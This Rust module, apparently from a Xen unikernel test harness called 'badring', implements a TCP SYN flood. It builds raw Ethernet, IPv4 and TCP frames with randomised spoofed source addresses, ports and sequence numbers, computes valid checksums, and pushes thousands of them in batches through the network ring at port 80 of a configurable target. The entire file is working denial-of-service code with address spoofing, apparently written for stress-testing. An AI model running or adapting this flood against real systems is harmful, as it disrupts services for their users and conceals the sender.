//! Calls from everywhere that nobody ever takes: SYNs, and guessed answers to what they are answered with.

use alloc::vec::Vec;

use mote_unikernel::Machine;
use mote_unikernel::xen::grants::Grant;
use mote_unikernel::xen::page::Page;
use mote_unikernel::xen::store::Store;

use super::{Device, Rings, argument, octets, println, request};
use crate::until;

/// Frames that are sent at once.
const BATCH: u32 = 64;
/// Bytes of Ethernet's, IPv4's and TCP's headers.
const LENGTH: u16 = 54;
const SYN: u8 = 2;
const ACK: u8 = 16;

/// Sends `frames=` of them to port 80 of `near=`, which has the MAC address `to=`.
pub async fn flood(machine: &Machine, store: &Store) {
    let device = Device::find(store, "device/vif/0").await;
    let mac = octets(&device.get("mac").await);
    let (to, near) = (octets(argument(machine, "to")), octets(argument(machine, "near")));
    let target: [u8; 4] = core::array::from_fn(|index| near[index]);
    let frames = machine.number("frames").unwrap_or(10_000) as u32;
    let pages: Vec<Grant> =
        (0..BATCH).map(|_| Grant::new(device.backend, Page::new(), false).expect("a grant")).collect();
    let rings = Rings::connect(&device).await;
    println!("badring: the flood begins");
    let mut random = Random(machine.seed() | 1);
    let mut sent = 0;
    while sent < frames {
        for page in &pages {
            page.page().write(&call([to, mac], target, &mut random));
            rings.put(sent, &request(page.reference(), 0, 0, LENGTH));
            sent += 1;
        }
        rings.produce(sent);
        until("a batch to be taken", || rings.answered() == sent).await;
    }
    println!("badring: {sent} calls that nobody takes");
    rings.disconnect(&device).await;
}

/// Numbers that look random (xorshift).
struct Random(u64);

impl Random {
    const fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// A SYN, or an ACK of what its sender cannot know, from somewhere.
fn call([to, from]: [[u8; 6]; 2], target: [u8; 4], random: &mut Random) -> Vec<u8> {
    let numbers = random.next().to_be_bytes();
    let [a, b, c, d, e, f, g, h] = random.next().to_be_bytes();
    // Of the machine's network, or of another.
    let source = if a & 1 == 0 { [10, 0, 2, b] } else { [192, 168, b, c] };
    let flags = if a & 2 == 0 { SYN } else { ACK };
    let mut ip = [0x45, 0, 0, 40, g, h, 0, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    ip[12..16].copy_from_slice(&source);
    ip[16..].copy_from_slice(&target);
    let sum = checksum(&[&ip]);
    ip[10..12].copy_from_slice(&sum);
    let mut tcp = [0; 20];
    tcp[..4].copy_from_slice(&[d | 4, e, 0, 80]);
    tcp[4..12].copy_from_slice(&numbers);
    tcp[12..16].copy_from_slice(&[5 << 4, flags, 0x20, f]);
    let sum = checksum(&[&source, &target, &[0, 6, 0, 20], &tcp]);
    tcp[16..18].copy_from_slice(&sum);
    [&to[..], &from, &[8, 0], &ip, &tcp].concat()
}

/// The Internet's checksum (RFC 1071) of parts of even lengths.
fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let pairs = parts.iter().flat_map(|part| part.as_chunks::<2>().0);
    let sum: u32 = pairs.map(|pair| u32::from(u16::from_be_bytes(*pair))).sum();
    let sum = (sum & 0xffff) + (sum >> 16);
    (!((sum + (sum >> 16)) as u16)).to_be_bytes()
}
